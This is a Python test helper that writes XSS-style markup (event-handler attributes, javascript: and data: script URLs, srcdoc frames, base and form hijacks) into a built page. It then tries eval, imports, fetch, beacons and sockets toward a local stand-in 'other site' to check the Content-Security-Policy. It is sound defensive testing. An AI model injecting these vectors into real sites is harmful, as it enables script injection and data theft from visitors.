"""Ways to run a script, or to reach another site, from inside a page that somebody could write into."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from tests.support.loopback import running

_META = re.compile(r'\n *<meta http-equiv="Content-Security-Policy"[^>]*>')
_MARK = "(window.ran ??= []).push"
MARKUP = {
    "inline script": f"<script>{_MARK}('inline script')</script>",
    "handler": f"<img src=nowhere.png onerror=\"{_MARK}('handler')\">",
    "drawing": f"<svg onload=\"{_MARK}('drawing')\"></svg>",
    "details": f"<details open ontoggle=\"{_MARK}('details')\">x</details>",
    "script of another site": '<script src="{other}script.js"></script>',
    "script in its address": f"<script src=\"data:text/javascript,{_MARK}('script in its address')\"></script>",
    "module in its address": (
        f"<script type=module src=\"data:text/javascript,{_MARK}('module in its address')\"></script>"
    ),
    "frame": "<iframe srcdoc=\"<script>(parent.ran ??= []).push('frame')</script>\"></iframe>",
    "frame of a program": "<iframe src=\"javascript:(parent.ran ??= []).push('frame of a program')\"></iframe>",
    "object": f"<object data=\"data:text/html,<script>{_MARK}('object')</script>\"></object>",
    "plug-in": '<embed src="{other}plug-in.pdf">',
    "link": f"<a id=attack-link href=\"javascript:{_MARK}('link')\">x</a>",
    "form": '<form id=attack-form action="{other}form"><input name=x><button>x</button></form>',
    "style": "<style>#attack-style {{ color: rgb(1, 2, 3) }}</style><p id=attack-style style='width: 7px'>x</p>",
    "style of another site": '<link rel=stylesheet href="{other}style.css">',
    "picture of another site": '<img src="{other}picture.png" alt="">',
    "font and film of another site": '<video src="{other}film.mp4" preload=auto></video>',
    "preload of another site": '<link rel=preload as=image href="{other}preload.png">',
    "base": '<base href="{other}">',
    "manifest": '<link rel=manifest href="{other}manifest.json">',
}
"""What somebody writes into a page, by name; `{other}` is the address of another site."""
ACT = """(async (other) => {
    document.querySelector("#attack-link")?.click();
    document.querySelector("#attack-form")?.requestSubmit();
    const mark = "(window.ran ??= []).push";
    const attempts = {
        eval: () => window.eval(`${mark}("eval")`),
        Function: () => new Function(`${mark}("Function")`)(),
        timer: () => new Promise((done) => { setTimeout(`${mark}("timer")`, 0); setTimeout(done, 50); }),
        "own inline script": () => {
            const script = document.createElement("script");
            script.text = `${mark}("own inline script")`;
            document.body.append(script);
        },
        "HTML as text": () => { document.body.insertAdjacentHTML("beforeend", `<img src=x onerror='${mark}("HTML as text")'>`); },
        worker: () => new Promise((done) => {
            const blob = new Blob(["postMessage('worker')"], { type: "text/javascript" });
            const worker = new Worker(URL.createObjectURL(blob));
            worker.onmessage = () => { (window.ran ??= []).push("worker"); done(); };
            worker.onerror = done;
        }),
        module: () => import(`data:text/javascript,${mark}("module")`),
        "module of another site": () => import(`${other}module.js`),
        fetch: () => fetch(`${other}fetch`),
        beacon: () => navigator.sendBeacon(`${other}beacon`),
        socket: () => new Promise((done) => { const socket = new WebSocket(`${other.replace("http", "ws")}socket`); socket.onerror = done; }),
    };
    const failed = [];
    for (const [name, attempt] of Object.entries(attempts)) {
        try { await attempt(); } catch { failed.push(name); }
    }
    await new Promise((done) => setTimeout(done, 300));
    const style = document.querySelector("#attack-style");
    const { color, width } = style ? getComputedStyle(style) : {};
    return { ran: window.ran ?? [], base: document.baseURI, address: location.href, colour: color, width, failed };
})"""
"""A function that does in a page what a script could try, given the address of another site, and returns what came of it."""
SCRIPT = "about/attack.js"
"""The file of the site that calls the function: in what a driver of the browser evaluates, `eval` may be used."""
FOUND = "new Promise((done) => { (function look() { window.found ? done(window.found) : setTimeout(look, 20); })(); })"
"""What came of it, as an expression."""


class OtherSite:
    """A site of somebody else on this machine."""

    def __init__(self, url: str) -> None:
        """Note what is asked of the site at `url`."""
        self.url = url
        self.requests: list[str] = []
        """The paths that were asked for."""


@contextmanager
def other_site() -> Iterator[OtherSite]:
    """Serve a site that notes every request, and answers each with a script that marks the page."""

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            site.requests.append(self.path)
            content = b"(window.ran ??= []).push('script of another site')"
            self.send_response(200)
            self.send_header("Content-Type", "text/css" if self.path.endswith("css") else "text/javascript")
            self.send_header("Content-Length", str(len(content)))
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    for method in ("GET", "HEAD", "POST", "OPTIONS"):
        setattr(Handler, f"do_{method}", Handler.answer)
    with running(ThreadingHTTPServer(("127.0.0.1", 0), Handler)) as server:
        site = OtherSite(f"http://localhost:{server.server_port}/")
        yield site


def write_attacked(source: Path, folder: Path, other: str, *, with_policy: bool, left_out: Sequence[str] = ()) -> Path:
    """Write a small site whose page `about/` was attacked, with files of the site `source`; return its folder.

    Args:
        source: the folder of a built site.
        folder: where to write it.
        other: the address of another site.
        with_policy: whether the page keeps its policy.
        left_out: the names in `MARKUP` of what is not written.
    """
    site = folder / "site"
    for name in ("assets", ".well-known"):
        shutil.copytree(source / name, site / name)
    shutil.copyfile(source / "404.html", site / "404.html")
    html = (source / "about/index.html").read_text("utf-8")
    assert _META.search(html)
    markup = {
        name: text.replace("{other}", other).replace("{{", "{").replace("}}", "}")
        for name, text in MARKUP.items()
        if name not in left_out
    }
    head = "".join(markup.pop(name, "") for name in ("base", "manifest", "preload of another site"))
    html = html.replace("</head>", f'{head}<script src="{Path(SCRIPT).name}" defer></script></head>')
    html = html.replace("</main>", f"{''.join(markup.values())}</main>")
    (site / SCRIPT).parent.mkdir()
    (site / "about/index.html").write_text(html if with_policy else _META.sub("", html), "utf-8")
    call = f"{ACT}({json.dumps(other)}).then((found) => {{ window.found = found; }})"
    (site / SCRIPT).write_text(f'addEventListener("load", () => {call});', "utf-8")
    return site
